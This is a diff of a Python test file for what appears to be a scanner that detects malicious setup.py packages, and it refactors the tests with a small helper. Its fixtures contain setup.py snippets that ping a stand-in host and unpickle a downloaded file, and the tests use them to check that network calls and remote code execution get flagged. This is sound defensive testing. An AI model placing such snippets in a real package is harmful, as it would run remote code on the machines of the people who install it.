@@ -34,6 +34,10 @@ def _types(evidence: list[dict[str, str]]) -> set[str]:
     return {item["type"] for item in evidence}
 
 
+def _setup_py_types(engine: Engine, setup_py: str) -> set[str]:
+    return _types(run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=setup_py)))
+
+
 def test_setup_py_install_override_and_its_calls(engine: Engine) -> None:
     evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=DROPPER_SETUP))
     assert {
@@ -114,8 +118,7 @@ def test_setup_py_that_does_not_parse_still_reports_its_calls(engine: Engine) ->
         "print 'python 2 syntax'\n"
         "urllib.request.urlopen('https://x.example.net/ping')\n"
     )
-    evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=setup_py))
-    assert "network" in _types(evidence)
+    assert "network" in _setup_py_types(engine, setup_py)
 
 
 def test_base64_literal_that_decodes_to_code_is_hidden_code(engine: Engine) -> None:
@@ -199,5 +202,4 @@ def test_setup_py_unpickling_a_download_runs_remote_code(engine: Engine) -> None
         "cfg = pickle.loads(urllib.request.urlopen('https://x.example.net/build.cfg').read())\n"
         "from setuptools import setup\nsetup(name='x', version='1')\n"
     )
-    evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=setup_py))
-    assert "remote_code_execution" in _types(evidence)
+    assert "remote_code_execution" in _setup_py_types(engine, setup_py)
